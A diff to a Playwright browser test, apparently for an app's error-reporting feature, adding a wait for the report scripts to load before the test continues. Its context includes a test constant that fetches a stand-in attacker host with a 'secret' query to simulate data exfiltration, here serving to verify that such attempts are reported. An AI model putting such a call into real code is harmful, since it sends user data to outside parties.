@@ -19,6 +19,15 @@ const addCode = (page: Page, script: RegExp, code: string) =>
 
 const CONNECT_ELSEWHERE = "fetch('https://attacker.test/diary?word=secret').catch(() => undefined)";
 
+/** Waits until the browser has the script that reports errors, with what it imports. */
+const waitForReportScript = (page: Page) =>
+  page.waitForFunction(() => {
+    const names = performance.getEntriesByType('resource').map(({ name }) => name);
+    return [/\/report-errors-[\w-]+\.js$/u, /\/browser-errors-[\w-]+\.js$/u].every((script) =>
+      names.some((name) => script.test(name)),
+    );
+  });
+
 /** A headless browser never hides a page. */
 const LEAVE_TAB = `
   Object.defineProperty(document, 'visibilityState', { value: 'hidden' });
@@ -184,6 +193,7 @@ test('sends a report when the connection returns, and repetitions when the learn
   const requests: Request[] = [];
   page.on('request', (request) => isReport(request) && requests.push(request));
   await learner.open();
+  await waitForReportScript(page);
   await context.setOffline(true);
   await page.evaluate(CONNECT_ELSEWHERE);
   const report = waitForReport(page);
